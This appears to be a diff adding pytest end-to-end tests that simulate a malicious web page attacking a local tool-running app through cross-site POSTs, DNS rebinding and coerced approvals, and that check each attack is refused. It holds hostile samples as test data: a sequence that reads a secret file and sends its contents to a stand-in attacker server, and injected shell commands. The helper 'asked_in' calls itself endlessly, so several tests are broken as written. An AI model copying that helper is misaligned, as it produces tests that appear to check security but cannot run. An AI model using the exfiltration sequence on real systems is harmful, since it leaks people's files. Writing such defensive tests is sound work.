@@ -1,0 +1,230 @@
+"""The attacks of a web page on the default app (127.0.0.1, no token), against the real app over HTTP.
+
+A browser sends requests to 127.0.0.1 for any page the person visits: "simple" cross-site POSTs
+(`text/plain`, no preflight), and, once the page's DNS name points at 127.0.0.1, requests with that
+name as their Host (DNS rebinding). Each test sends what such a page would, checks the refusal, and
+proves that nothing ran: no run, no answer, no marker file, no request to the attacker's server.
+"""
+
+from __future__ import annotations
+
+import json
+import threading
+import time
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from e2e_support import RunningApp
+
+EVIL = "http://evil.example"
+T = 15.0
+
+
+def tools(*calls: dict[str, Any]) -> str:
+    return "".join(json.dumps(c) + " ;" for c in calls)
+
+
+@pytest.fixture(scope="module")
+def http(seqdesk_app: RunningApp) -> Iterator[httpx.Client]:
+    with httpx.Client(base_url=seqdesk_app.base_url, timeout=T) as client:
+        yield client
+
+
+@pytest.fixture
+def collector() -> Iterator[list[str]]:
+    """An "attacker's" web server on this machine: the paths it was asked for."""
+    hits: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
+            hits.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    hits.append(f"http://127.0.0.1:{server.server_address[1]}")  # hits[0]: its address
+    try:
+        yield hits
+    finally:
+        server.shutdown()
+
+
+def runs(http: httpx.Client) -> list[dict[str, Any]]:
+    return http.get("/api/runs").json()
+
+
+def pending(http: httpx.Client) -> list[dict[str, Any]]:
+    return http.get("/api/interactions", params={"status": "pending"}).json()
+
+
+def asked_in(http: httpx.Client, run_id: str) -> list[dict[str, Any]]:
+    return asked_in(http, run_id)
+
+
+def wait_for(check: Any, what: str) -> Any:
+    deadline = time.monotonic() + T
+    while time.monotonic() < deadline:
+        value = check()
+        if value:
+            return value
+        time.sleep(0.05)  # polling the app's state over HTTP, bounded by the deadline
+    raise AssertionError(f"{what} did not happen within {T:g}s")
+
+
+def exfiltrating_document(secret: Path, collector_url: str) -> dict[str, Any]:
+    return {"name": "steal", "groups": [
+        {"name": "steal-read", "in": {}, "out": {"data": "string"},
+         "tools": tools({"tool": "file_read", "args": {"path": str(secret)}, "as": "data"})},
+        {"name": "steal-send", "in": {"data": "string"}, "out": {},
+         "tools": tools({"tool": "http_get", "args": {"url": f"{collector_url}/?d=$args.data"}})}]}
+
+
+def test_a_simple_cross_site_post_of_a_run_is_refused_and_nothing_runs(http, tmp_path, collector):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("the person's secret")
+    body = json.dumps({"document": exfiltrating_document(secret, collector[0]), "args": {}})
+    before = len(runs(http))
+    plain = http.post("/api/runs", content=body, headers={"Content-Type": "text/plain", "Origin": EVIL})
+    assert plain.status_code == 403 and "another site" in plain.json()["error"]
+    no_origin = http.post("/api/runs", content=body, headers={"Content-Type": "text/plain"})
+    assert no_origin.status_code == 415 and "must be JSON" in no_origin.json()["error"]
+    form = http.post("/api/runs", content=body, headers={"Content-Type": "application/x-www-form-urlencoded",
+                                                          "Origin": "null"})
+    assert form.status_code == 403
+    assert len(runs(http)) == before
+    assert collector[1:] == []
+
+
+def test_a_cross_site_post_cannot_overwrite_a_saved_sequence(http):
+    saved = {"name": "keep-me", "groups": [{"name": "keep-me-g", "in": {}, "out": {},
+                                            "tools": tools({"tool": "echo", "args": {"value": "original"}})}]}
+    assert http.post("/api/sequences", json=saved).status_code in (200, 201)
+    evil = {**saved, "groups": [{**saved["groups"][0], "tools": tools({"tool": "cmd_run",
+                                                                        "args": {"command": "id"}})}]}
+    for headers in ({"Content-Type": "text/plain", "Origin": EVIL}, {"Content-Type": "text/plain"},
+                    {"Content-Type": "application/json", "Origin": EVIL}):
+        answer = http.post("/api/sequences", content=json.dumps(evil), headers=headers)
+        assert answer.status_code in (403, 415), headers
+        assert "error" in answer.json()
+    kept = http.get("/api/sequences/keep-me").json()
+    assert "original" in kept["groups"][0]["tools"] and "cmd_run" not in kept["groups"][0]["tools"]
+
+
+def test_a_rebound_host_can_neither_read_nor_answer_requests(http, seqdesk_app, tmp_path):
+    marker = tmp_path / "rebound-ran"
+    doc = {"name": "rebind", "groups": [{"name": "rebind-g", "in": {}, "out": {},
+                                         "tools": tools({"tool": "cmd_run", "args": {"command": f"touch {marker}"}})}]}
+    run_id = http.post("/api/runs", json={"document": doc, "args": {}}).json()["run_id"]
+    waiting = wait_for(lambda: asked_in(http, run_id), "the approval request")
+    iid = waiting[0]["interaction_id"]
+    port = seqdesk_app.base_url.rsplit(":", 1)[1]
+    rebound = {"Host": f"evil.example:{port}"}
+    for method, path in (("GET", "/api/interactions"), ("GET", "/"), ("GET", "/inbox"), ("GET", "/api/events"),
+                         ("GET", "/_nicegui_ws/socket.io/?EIO=4&transport=polling")):
+        answer = http.request(method, path, headers=rebound)
+        assert answer.status_code == 421, path
+        assert "does not answer to the host" in answer.json()["error"]
+    answer = http.post(f"/api/interactions/{iid}/respond", headers=rebound,
+                       json={"kind": "approval", "decision": "approved", "always_allow": True})
+    assert answer.status_code == 421
+    assert [i["interaction_id"] for i in pending(http) if i["request"]["turn_id"] == run_id] == [iid]
+    assert not marker.exists()
+    assert http.post(f"/api/runs/{run_id}/stop").json() == {"stopped": True}
+
+
+def test_an_answer_is_strict_a_string_is_not_a_yes(http, tmp_path):
+    marker = tmp_path / "coerced-ran"
+    doc = {"name": "strict", "groups": [{"name": "strict-g", "in": {}, "out": {},
+                                         "tools": tools({"tool": "cmd_run", "args": {"command": f"touch {marker}"}})}]}
+    run_id = http.post("/api/runs", json={"document": doc, "args": {}}).json()["run_id"]
+    iid = wait_for(lambda: asked_in(http, run_id), "the request")[0]["interaction_id"]
+    for bad in ({"kind": "approval", "decision": "approved", "always_allow": "yes"},
+                {"kind": "approval", "decision": "approved", "always_allow": 1}):
+        answer = http.post(f"/api/interactions/{iid}/respond", json=bad)
+        assert answer.status_code == 422, bad
+    assert [i["interaction_id"] for i in pending(http) if i["request"]["turn_id"] == run_id] == [iid]
+    assert not marker.exists()
+    http.post(f"/api/runs/{run_id}/stop")
+
+
+def test_after_always_allow_a_blind_cross_site_post_still_runs_nothing(http, tmp_path):
+    marker = tmp_path / "blind-ran"
+    allowed = tmp_path / "allowed-ran"
+    doc = {"name": "allow", "groups": [{"name": "allow-g", "in": {}, "out": {},
+                                        "tools": tools({"tool": "cmd_run", "args": {"command": f"touch {allowed}"}})}]}
+    run_id = http.post("/api/runs", json={"document": doc, "args": {}}).json()["run_id"]
+    iid = wait_for(lambda: asked_in(http, run_id), "the request")[0]["interaction_id"]
+    assert http.post(f"/api/interactions/{iid}/respond",
+                     json={"kind": "approval", "decision": "approved", "always_allow": True}).status_code == 200
+    wait_for(lambda: http.get(f"/api/runs/{run_id}").json()["status"] == "succeeded", "the allowed run")
+    assert allowed.exists()
+    before = len(runs(http))
+    blind = {"document": {"name": "blind", "groups": [{"name": "blind-g", "in": {}, "out": {}, "tools": tools(
+        {"tool": "cmd_run", "args": {"command": f"touch {marker}"}})}]}, "args": {}}
+    answer = http.post("/api/runs", content=json.dumps(blind), headers={"Content-Type": "text/plain",
+                                                                         "Origin": EVIL})
+    assert answer.status_code == 403
+    assert len(runs(http)) == before and not marker.exists()
+
+
+def test_a_local_program_reading_and_sending_a_file_is_asked_first(http, tmp_path, collector):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("the person's secret")
+    answer = http.post("/api/runs", json={"document": exfiltrating_document(secret, collector[0]), "args": {}})
+    assert answer.status_code == 202
+    run_id = answer.json()["run_id"]
+    asked = wait_for(lambda: asked_in(http, run_id), "the read request")[0]
+    assert asked["request"]["source"]["tool_name"] == "file_read"
+    assert asked["request"]["summary"] == f"Read the file {secret}"
+    assert http.post(f"/api/interactions/{asked['interaction_id']}/respond",
+                     json={"kind": "approval", "decision": "denied"}).status_code == 200
+    record = wait_for(lambda: (r := http.get(f"/api/runs/{run_id}").json())["finished_at"] and r, "the run's end")
+    assert record["status"] == "failed"
+    assert collector[1:] == []  # nothing reached the other server
+
+
+def test_the_socket_of_the_pages_answers_only_the_apps_own_origin(http, seqdesk_app):
+    handshake = "/_nicegui_ws/socket.io/?EIO=4&transport=polling"
+    evil = http.get(handshake, headers={"Origin": EVIL})
+    assert evil.status_code == 403
+    assert "access-control-allow-credentials" not in evil.headers
+    own = http.get(handshake, headers={"Origin": seqdesk_app.base_url})
+    assert own.status_code == 200
+    assert own.headers.get("access-control-allow-origin") in (None, seqdesk_app.base_url)
+
+
+def test_an_upload_or_a_page_post_from_another_site_is_refused(http):
+    for path in ("/_nicegui/client/c1/upload/5", "/"):
+        answer = http.post(path, content=b"x", headers={"Origin": EVIL, "Content-Type": "multipart/form-data"})
+        assert answer.status_code == 403, path
+
+
+def test_a_huge_invalid_document_is_answered_briefly_and_the_app_keeps_answering(http):
+    groups = [{"name": f"g{i}", "in": "", "out": "", "tools": '{"tool":"nope","as":"x"}'} for i in range(15000)]
+    body = json.dumps({"name": "huge", "groups": groups})
+    assert len(body) > 1_000_000
+    result: dict[str, Any] = {}
+
+    def post() -> None:
+        result["answer"] = http.post("/api/sequences", content=body, headers={"Content-Type": "application/json"})
+
+    poster = threading.Thread(target=post)
+    poster.start()
+    healthy = 0
+    while poster.is_alive():
+        healthy += http.get("/api/health").status_code == 200
+    poster.join()
+    answer = result["answer"]
+    assert answer.status_code == 422
+    assert len(answer.content) < 200_000
+    assert answer.json()["errors_total"] > 100 and len(answer.json()["errors"]) == 100
+    assert healthy >= 3  # health checks were answered while the document was being validated
